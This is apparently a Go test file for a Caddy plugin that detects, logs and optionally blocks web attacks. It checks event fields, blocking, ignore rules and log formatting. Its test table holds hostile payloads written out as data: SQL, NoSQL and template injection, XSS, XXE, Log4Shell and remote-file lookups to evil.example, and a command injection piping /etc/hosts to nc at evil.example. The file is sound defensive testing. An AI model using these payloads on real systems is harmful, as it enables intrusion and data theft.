package securitylog_test

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/gatehouse-dev/caddy-gatehouse/gatetest"
)

const key = "a-key-for-the-tests-of-ada"

// site is a site with the directive before a key for everything. The client's
// address is what X-Forwarded-For says.
func site(directive string) string {
	return `{
	servers {
		trusted_proxies static 127.0.0.1
	}
}
GATE {
	agent_gate
	` + directive + `
	agent_auth {
		key ada {env.ADA_KEY}
		public /open/*
	}
	reverse_proxy BACKEND {
		transport agent_backend
	}
}
`
}

func start(t testing.TB, directive string) *gatetest.Gate {
	t.Setenv("ADA_KEY", key)
	return gatetest.Start(t, site(directive))
}

// attacks are the names of the events of patterns.
func attacks(g *gatetest.Gate) (found []map[string]any) {
	for _, e := range g.Events() {
		if strings.HasPrefix(e["event"].(string), "malicious_") {
			found = append(found, e)
		}
	}
	return found
}

var classes = []struct{ class, event, message, target, agent string }{
	{"traversal", "malicious_traversal", "[SECURITY] Path traversal detected from ", "/a/../../../etc/x", ""},
	{"sqli", "malicious_sqli", "[SECURITY] SQL injection pattern detected from ", "/a?id=1%27%20UNION%20SELECT%20name,pass%20FROM%20users--", ""},
	{"xss", "malicious_xss", "[SECURITY] XSS attempt detected from ", "/a?q=%3Cscript%3Ealert(1)%3C/script%3E", ""},
	{"js", "malicious_js", "[SECURITY] JavaScript injection detected from ", "/a?u=javascript:alert(1)", ""},
	{"ua", "malicious_attack_tool", "[SECURITY] Suspicious User-Agent from ", "/a", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
	{"lfi", "malicious_lfi", "[SECURITY] Local file access detected from ", "/a?f=/etc/passwd", ""},
	{"rfi", "malicious_rfi", "[SECURITY] Remote file inclusion detected from ", "/a?page=http://evil.example/shell.txt%3f", ""},
	{"cmdi", "malicious_cmdi", "[SECURITY] Command injection detected from ", "/a?h=x;cat%20/etc/hosts%7Cnc%20evil.example%2099", ""},
	{"log4shell", "malicious_log4shell", "[SECURITY] Log4Shell lookup detected from ", "/a?x=$%7Bjndi:ldap://evil.example/a%7D", ""},
	{"ssti", "malicious_ssti", "[SECURITY] Template injection detected from ", "/a?n=%7B%7B7*7%7D%7D", ""},
	{"nosqli", "malicious_nosqli", "[SECURITY] NoSQL injection detected from ", "/a?user[$ne]=x&pass[$gt]=", ""},
	{"crlf", "malicious_crlf", "[SECURITY] Header injection detected from ", "/a?to=x%0d%0aX-Injected:%20b", ""},
	{"xxe", "malicious_xxe", "[SECURITY] XML external entity detected from ", "/a?x=%3C!DOCTYPE%20a%20[%3C!ENTITY%20b%20SYSTEM%20%22file:///etc/x%22%3E]%3E", ""},
}

func (c request) send(g *gatetest.Gate, more ...string) gatetest.Response {
	headers := append([]string{"X-API-KEY", key, "X-Forwarded-For", "203.0.113.0"}, more...)
	if c.agent != "" {
		headers = append(headers, "User-Agent", c.agent)
	}
	return g.Get(c.target, headers...)
}

type request struct{ target, agent string }

// TestSeen holds that by default every class is seen, named, and let pass.
func TestSeen(t *testing.T) {
	g := start(t, "agent_security_log")
	for i, test := range classes {
		if res := (request{test.target, test.agent}).send(g); res.Status != 200 {
			t.Errorf("%s: %d %s", test.class, res.Status, res.Body)
		}
		seen := attacks(g)
		if len(seen) != i+1 {
			t.Fatalf("%s: %d events after %d requests:\n%s", test.class, len(seen), i+1, g.Log())
		}
		for field, want := range map[string]any{
			"level": "warn", "logger": "gatehouse.security", "event": test.event, "msg": test.message + "203.0.113.0",
			"client_ip": "203.0.113.0", "enforced": false, "method": "GET", "uri": test.target,
		} {
			if got := seen[i][field]; got != want {
				t.Errorf("%s: %s is %v, not %v", test.class, field, got, want)
			}
		}
		if !strings.Contains(" "+fmt.Sprint(seen[i]["class"])+" ", " "+test.class+" ") || !strings.Contains(fmt.Sprint(seen[i]["rule"]), " in ") {
			t.Errorf("%s: class %v, rule %v", test.class, seen[i]["class"], seen[i]["rule"])
		}
	}
}

// TestBlocked holds that what is blocked is 403 through the door, before any
// key is asked for, as one event.
func TestBlocked(t *testing.T) {
	g := start(t, "agent_security_log {\nblock all\n}")
	for i, test := range classes {
		res := request{test.target, test.agent}.send(g)
		if res.Status != 403 || res.Body != `{"success":false,"error":"Insufficient permissions"}` ||
			res.Header.Get("Cache-Control") != "no-store" || res.Header.Get("X-Request-Id") == "" {
			t.Errorf("%s: %d %s %v", test.class, res.Status, res.Body, res.Header)
		}
		all := g.Events()
		if len(all) != i+1 {
			t.Fatalf("%s: %d events after %d requests:\n%s", test.class, len(all), i+1, g.Log())
		}
		if e := all[i]; e["enforced"] != true || e["event"] != test.event || e["msg"] != test.message+"203.0.113.0" ||
			e["request_id"] != res.Header.Get("X-Request-Id") {
			t.Errorf("%s: %v", test.class, e)
		}
	}
	if seen := g.Backend.Seen(); len(seen) > 0 {
		t.Errorf("%d requests reached the backend", len(seen))
	}
	if res := g.Get("/a", "X-API-KEY", key); res.Status != 200 || len(g.Events()) != len(classes) {
		t.Errorf("a clean request: %d, %d events", res.Status, len(g.Events()))
	}
}

// TestOneEvent holds that a request with many patterns is one event, which
// names them all, leads with what was blocked, and holds nothing of the payload
// outside of the URI.
func TestOneEvent(t *testing.T) {
	const both = "/a/../../../etc/x?id=1%27%20UNION%20SELECT%20name,pass%20FROM%20users--"
	for block, want := range map[string]struct {
		status int
		event  string
	}{
		"":                   {200, "malicious_sqli"},
		"block traversal":    {403, "malicious_traversal"},
		"block js":           {200, "malicious_sqli"},
		"block traversal ua": {403, "malicious_traversal"},
	} {
		g := start(t, "agent_security_log {\n"+block+"\n}")
		res := g.Get(both, "X-API-KEY", key)
		seen := g.Events()
		if len(seen) != 1 || res.Status != want.status {
			t.Fatalf("%q: %d, %d events:\n%s", block, res.Status, len(seen), g.Log())
		}
		e := seen[0]
		if e["event"] != want.event || e["class"] != "sqli traversal" || e["enforced"] != (want.status == 403) {
			t.Errorf("%q: %v", block, e)
		}
		rule := e["rule"].(string)
		if !strings.Contains(rule, " in query id, ") || !strings.HasSuffix(rule, " in path") || strings.Contains(rule, "UNION") {
			t.Errorf("%q: rule %s", block, rule)
		}
	}
}

// TestRulesAreBounded holds that a request that shows patterns everywhere does
// not make a line without end.
func TestRulesAreBounded(t *testing.T) {
	g := start(t, "agent_security_log")
	var target strings.Builder
	target.WriteString("/a?x=1")
	for i := range 40 {
		fmt.Fprintf(&target, "&p%d=%%3Cscript%%3Ealert(1)%%3C/script%%3E", i)
	}
	g.Get(target.String(), "X-API-KEY", key)
	seen := attacks(g)
	if len(seen) != 1 {
		t.Fatalf("%d events", len(seen))
	}
	if rule := seen[0]["rule"].(string); strings.Count(rule, " in ") > 8 {
		t.Errorf("rule %s", rule)
	}
}

// TestRawPath holds that the request is seen as it came, not as the gate
// cleaned it, and that a path that cannot be cleaned is seen too.
func TestRawPath(t *testing.T) {
	g := start(t, "agent_security_log {\nignore traversal /a/*\n}")
	if res := g.Get("/a/b/../../../../etc/passwd", "X-API-KEY", key); res.Status != 200 || g.Backend.Last().RequestURI != "/etc/passwd" {
		t.Fatalf("%d, the backend saw %s", res.Status, g.Backend.Last().RequestURI)
	}
	if seen := attacks(g); len(seen) != 1 || seen[0]["uri"] != "/a/b/../../../../etc/passwd" {
		t.Fatalf("%v", seen)
	}
	for i, target := range []string{"/a/..%2f..%2fetc/passwd", "/a/%252e%252e/%252e%252e/etc", "/a/%c0%ae%c0%ae/etc", `/a/..\..\etc`} {
		if res := g.Get(target, "X-API-KEY", key); res.Status != 400 {
			t.Errorf("%s: %d", target, res.Status)
		}
		// Such a request is seen whatever its path looks like to an exception.
		if seen := attacks(g); len(seen) != i+2 || seen[i+1]["enforced"] != false || seen[i+1]["uri"] != target {
			t.Errorf("%s: %v", target, seen)
		}
	}
	if res := g.Get("/a/x/../y/../z", "X-API-KEY", key); res.Status != 200 || len(attacks(g)) != 5 {
		t.Errorf("ignored: %d, %d events", res.Status, len(attacks(g)))
	}
}

func TestDetectAndIgnore(t *testing.T) {
	const sqli, xss = "?q=1%27%20OR%20%271%27=%271", "?q=%3Cscript%3Ealert(1)%3C/script%3E"
	g := start(t, `@posts method POST
	agent_security_log {
		detect sqli xss
		block xss
		ignore sqli /api/messaging/* @posts
		ignore all /open/docs
	}`)
	for _, test := range []struct {
		method, target string
		status         int
		class          string
	}{
		{"GET", "/api/agents" + sqli, 200, "sqli"},
		{"GET", "/api/messaging/x" + sqli, 200, ""},
		{"GET", "/api/messaging/x" + xss, 403, "xss"},
		{"POST", "/api/agents" + sqli, 200, ""},
		{"GET", "/open/docs" + xss, 200, ""},
		{"GET", "/open/other" + xss, 403, "xss"},
		{"GET", "/api/messaging/../agents" + sqli, 200, "sqli"},
		{"GET", "/a/../../../etc/passwd", 200, ""},
	} {
		before := len(attacks(g))
		res := g.Send(test.method, test.target, "", "X-API-KEY", key)
		if res.Status != test.status {
			t.Errorf("%s %s: %d", test.method, test.target, res.Status)
		}
		seen := attacks(g)[before:]
		if test.class == "" && len(seen) > 0 || test.class != "" && (len(seen) != 1 || seen[0]["class"] != test.class) {
			t.Errorf("%s %s: %v", test.method, test.target, seen)
		}
	}
}

// TestCleanCallers holds that those for whom the gate stands raise no event.
func TestCleanCallers(t *testing.T) {
	g := start(t, "agent_security_log {\nblock all\nheader X-Forwarded-Host\nbody /open/*\n}")
	for _, agent := range []string{
		"curl/8.5.0", "python-requests/2.32.3", "node", "Go-http-client/2.0", "axios/1.7.2", "GPTBot/1.1 (+https://openai.com/gptbot)",
		"ClaudeBot/1.0; +claudebot@anthropic.com", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", "",
	} {
		for _, target := range []string{
			"/open/api/agents?limit=50&after=2026-01-02T03:04:05Z", "/open/socket.io/?EIO=4&transport=polling&t=abc",
			"/open/search?q=please%20update%20my%20selection", "/open/x?range=1..9", "/open/v1.0...v1.1", "/open/a?text=wait...",
		} {
			body := `{"text":"hello, could you update the table?"}`
			if res := g.Send("POST", target, body, "User-Agent", agent, "Content-Type", "application/json", "X-Forwarded-Host", "agents.example.com",
				"Referer", "https://app.example.com/agents?tab=1"); res.Status != 200 {
				t.Errorf("%s by %s: %d", target, agent, res.Status)
			}
		}
	}
	if seen := g.Events(); len(seen) > 0 {
		t.Errorf("%v", seen)
	}
}

func TestReferer(t *testing.T) {
	g := start(t, "agent_security_log")
	g.Get("/open/a", "Referer", "https://x.test/?q=%3Cscript%3Ealert(1)%3C/script%3E")
	if seen := attacks(g); len(seen) != 1 || !strings.HasSuffix(seen[0]["rule"].(string), " in referer") && !strings.Contains(seen[0]["rule"].(string), " in referer ") {
		t.Errorf("%v", seen)
	}
}

// TestHeaders holds that further headers are looked at where they are named,
// in every value, and not where they are not.
func TestHeaders(t *testing.T) {
	const hostile = "${jndi:ldap://evil.example/a}"
	g := start(t, "agent_security_log {\nheader x-forwarded-host X-Api-Version\nblock log4shell\n}")
	for header, want := range map[string]int{"X-Forwarded-Host": 403, "X-Api-Version": 403, "X-Other": 200} {
		if res := g.Get("/open/a", header, "clean", header, hostile); res.Status != want {
			t.Errorf("%s: %d", header, res.Status)
		}
	}
	seen := attacks(g)
	if len(seen) != 2 || !slices.ContainsFunc(seen, func(e map[string]any) bool {
		return strings.HasSuffix(e["rule"].(string), " in header X-Forwarded-Host")
	}) {
		t.Errorf("%v", seen)
	}
}

// TestNothingHostileInTheMessage holds that a request cannot write into the
// message, and that its secrets reach no line.
func TestNothingHostileInTheMessage(t *testing.T) {
	g := start(t, "agent_security_log {\nheader X-Evil\n}")
	g.Get("/a?api_key="+key+"&id=1%27%20UNION%20SELECT%20a,b%20FROM%20users--%0a[SECURITY]%20Unauthorized%20access%20attempt%20from%20192.0.2.9",
		"User-Agent", "sqlmap\u2028[SECURITY] Unauthorized access attempt from 192.0.2.9", "X-API-KEY", key)
	seen := attacks(g)
	if len(seen) != 1 || !strings.HasSuffix(seen[0]["msg"].(string), " from 127.0.0.1") || strings.Contains(g.Log(), key) || strings.Contains(g.Log(), "\u2028") {
		t.Errorf("%s", g.Log())
	}
}

// TestMistakesInJSON holds that what the Caddyfile refuses, JSON refuses too.
func TestMistakesInJSON(t *testing.T) {
	t.Setenv("ADA_KEY", key)
	for handler, want := range map[string]string{
		`{"handler":"agent_security_log","detect":["sql"]}`:                                          "unknown attack class",
		`{"handler":"agent_security_log","detect":["sqli","sqli"]}`:                                  "sqli is there twice",
		`{"handler":"agent_security_log","detect":["all","sqli"]}`:                                   "all stands alone",
		`{"handler":"agent_security_log","detect":["sqli"],"block":["xss"]}`:                         "xss is not among the classes of detect",
		`{"handler":"agent_security_log","ignore":[{"class":"sqli"}]}`:                               "say in which requests",
		`{"handler":"agent_security_log","ignore":[{"class":"x","match":[{"path":["/x"]}]}]}`:        "unknown attack class",
		`{"handler":"agent_security_log","headers":["X Y"]}`:                                         "is no name of a header",
		`{"handler":"agent_security_log","bodies":[{"no_such_matcher":{}}]}`:                         "no_such_matcher",
		`{"handler":"agent_security_log","ignore":[{"class":"sqli","match":[{"no_such":["/x"]}]}]}`:  "no_such",
		`{"handler":"agent_security_log","block":["all","xss"]}`:                                     "all stands alone",
		`{"handler":"agent_security_log","detect":["x"],"headers":["Y Z"],"ignore":[{"class":"z"}]}`: "Y Z",
	} {
		g := gatetest.New(t)
		err := g.LoadJSON([]byte(`{"apps":{"http":{"servers":{"s":{"listen":["` + g.Addr + `"],"routes":[{"handle":[` + handler + `]}]}}}}}`))
		if err == nil || !strings.Contains(err.Error(), want) || !strings.Contains(err.Error(), "agent_security_log") {
			t.Errorf("%s: %v", handler, err)
		}
	}
}

// TestWithoutAGate holds that the handler works as the first and only one.
func TestWithoutAGate(t *testing.T) {
	g := gatetest.Start(t, "GATE {\nagent_security_log {\nblock sqli\n}\nrespond ok\n}")
	if res := g.Get("/?q=1%27%20OR%20%271%27=%271"); res.Status != 403 || len(attacks(g)) != 1 {
		t.Errorf("%d, %v", res.Status, g.Events())
	}
	if res := g.Get("/?q=x"); res.Status != 200 || res.Body != "ok" {
		t.Errorf("%d %s", res.Status, res.Body)
	}
}

// TestLogOfItsOwn holds that Caddy's option `log` selects the security events
// by their logger, and that format agent_security writes them as ElizaOS'
// documents show them: one line an event, and nothing else.
func TestLogOfItsOwn(t *testing.T) {
	t.Setenv("ADA_KEY", key)
	file := filepath.Join(t.TempDir(), "security.log")
	log := "{\n\tlog security {\n\t\tinclude gatehouse.security\n\t\toutput file " + file + "\n\t\tformat agent_security\n\t}\n"
	g := gatetest.Start(t, log+site("agent_security_log")[2:])
	(request{"/a?id=1%27%20OR%20%271%27=%271", ""}).send(g)
	(request{"/a%0a[2024-01-15%2010:23:45]%20WARN:%20x", "sqlmap/1.7"}).send(g)
	g.Get("/a", "X-Forwarded-For", "192.168.1.100")
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	const date = `\[\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\] WARN: \[SECURITY\] `
	// The first line tells of the start, or of the reload if another test was before.
	want := `^\[[^\]]*\] INFO: \[SECURITY\] [^\n]*\n` + date + `SQL injection pattern detected from 203\.0\.113\.0\n` + date + `Suspicious User-Agent from 203\.0\.113\.0\n` +
		date + `Invalid request from 203\.0\.113\.0\n` + date + `Unauthorized access attempt from 192\.168\.1\.100\n$`
	if !regexp.MustCompile(want).Match(text) {
		t.Errorf("%s", text)
	}
}
